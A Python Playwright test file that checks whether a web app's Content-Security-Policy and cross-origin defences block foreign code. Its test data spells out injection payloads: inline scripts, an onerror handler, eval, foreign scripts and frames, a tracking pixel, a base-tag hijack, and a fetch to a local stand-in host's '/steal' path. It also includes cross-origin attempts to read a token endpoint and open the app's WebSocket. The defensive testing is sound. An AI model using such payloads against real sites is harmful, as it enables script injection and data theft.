"""The Content-Security-Policy: every page works under it, and what is not the app's own does not run."""

import http.server
import threading

import pytest
from waiting import until

from browser.conftest import PATIENCE

WATCH = """
window.refused = [];
document.addEventListener('securitypolicyviolation', (event) =>
  refused.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`));
"""


@pytest.fixture
def watched(browser, app):
    """Opens a page that notes every violation of its policy in `window.refused`."""
    contexts = []

    def watched(path):
        context = browser.new_context(base_url=app)
        contexts.append(context)
        context.set_default_timeout(PATIENCE)
        page = context.new_page()
        page.add_init_script(WATCH)
        page.goto(path)
        return page

    yield watched
    for context in contexts:
        context.close()


def test_the_page_about_the_api_works_under_its_policy(watched):
    """All other pages: tests/browser/test_pseudo_language.py, in all their states."""
    page = watched("/api/v1/docs")
    page.get_by_text("The API").locator("visible=true").first.wait_for()
    page.wait_for_timeout(1000)  # what comes late comes
    assert page.evaluate("refused") == []


@pytest.fixture(scope="module")
def elsewhere():
    """The address of another site, which answers everything with a script."""

    class Answer(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"window.hacked = 'foreign'")

        def log_message(self, *_):
            """Nothing to say."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()
    thread.join()


INJECTED = {
    "an inline script": (
        "const s = document.createElement('script'); s.textContent = 'window.hacked = 1'; document.body.append(s)",
        "script-src-elem inline",
    ),
    "an event handler": (
        "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=window.hacked=1>')",
        "script-src",
    ),
    "a script of another site": (
        "const s = document.createElement('script'); s.src = '{elsewhere}/x.js'; document.body.append(s)",
        "script-src-elem {elsewhere}",
    ),
    "a frame": (
        "document.body.insertAdjacentHTML('beforeend', '<iframe src={elsewhere}></iframe>')",
        "frame-src {elsewhere}",
    ),
    "a frame with a script in it": (
        "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.hacked=1</' + 'script>';"
        "document.body.append(f)",
        None,  # told to the frame's own document
    ),
    "a picture that tells another site who looks": (
        "document.body.insertAdjacentHTML('beforeend', '<img src={elsewhere}/pixel.gif>')",
        "img-src {elsewhere}",
    ),
    "a request to another site": ("fetch('{elsewhere}/steal').catch(() => 0)", "connect-src {elsewhere}"),
    "code made of text": ("setTimeout(() => { try { eval('window.hacked = 1') } catch {} })", "script-src eval"),
    "another base for addresses": (
        "document.head.insertAdjacentHTML('beforeend', '<base href={elsewhere}/>')",
        "base-uri {elsewhere}",
    ),
}


@pytest.mark.parametrize("name", INJECTED)
def test_what_is_not_the_apps_own_is_blocked(watched, elsewhere, name):
    page = watched("/nothing")
    script, refused = INJECTED[name]
    page.evaluate(f"() => {{ {script.replace('{elsewhere}', elsewhere)} }}")
    if refused is not None:
        until(page, "refused.length > 0")
        assert any(one.startswith(refused.replace("{elsewhere}", elsewhere)) for one in page.evaluate("refused"))
    page.wait_for_timeout(500)
    assert page.evaluate("window.hacked") is None


def test_another_site_cannot_put_the_app_into_a_frame(browser, app, elsewhere):
    context = browser.new_context()
    page = context.new_page()
    page.route(f"{elsewhere}/frame", lambda route: route.fulfill(content_type="text/html", body=f"<iframe src={app}>"))
    page.goto(f"{elsewhere}/frame")
    until(page, "window.frames.length == 1")
    page.wait_for_timeout(1000)
    assert page.frames[1].url == "chrome-error://chromewebdata/"
    context.close()


def test_a_page_of_another_site_reaches_neither_the_routes_nor_the_live_connection(browser, app, elsewhere):
    """The other site is another port of this machine: browsers call that another origin of the same site."""
    context = browser.new_context()
    page = context.new_page()
    page.route(f"{elsewhere}/page", lambda route: route.fulfill(content_type="text/html", body="<p>hello"))
    page.goto(f"{elsewhere}/page")
    ask = """async (address) => {
      const tried = { read: 'refused', sent: 'refused', live: 'refused' };
      try { tried.read = await (await fetch(`${address}/api/token`)).text() } catch {}
      const post = { method: 'POST', mode: 'no-cors', body: '{}' };
      try { tried.sent = (await fetch(`${address}/api/boards`, post)).type } catch {}
      await new Promise((done) => {
        const socket = new WebSocket(`${address.replace('http', 'ws')}/_stcore/stream`, ['streamlit']);
        socket.onopen = () => { tried.live = 'open'; done() };
        socket.onerror = done;
      });
      return tried;
    }"""
    tried = page.evaluate(ask, app)
    assert tried["read"] == tried["live"] == "refused"
    assert tried["sent"] in ("opaque", "refused")  # the browser sends it; what comes of it is in tests/attacks
    context.close()
    own = browser.new_context()
    page = own.new_page()
    page.goto(f"{app}/nothing")
    opened = """(address) => new Promise((done) => {
      const socket = new WebSocket(`${address.replace('http', 'ws')}/_stcore/stream`, ['streamlit']);
      socket.onopen = () => done('open'); socket.onerror = () => done('refused');
    })"""
    assert page.evaluate(opened, app) == "open"
    own.close()
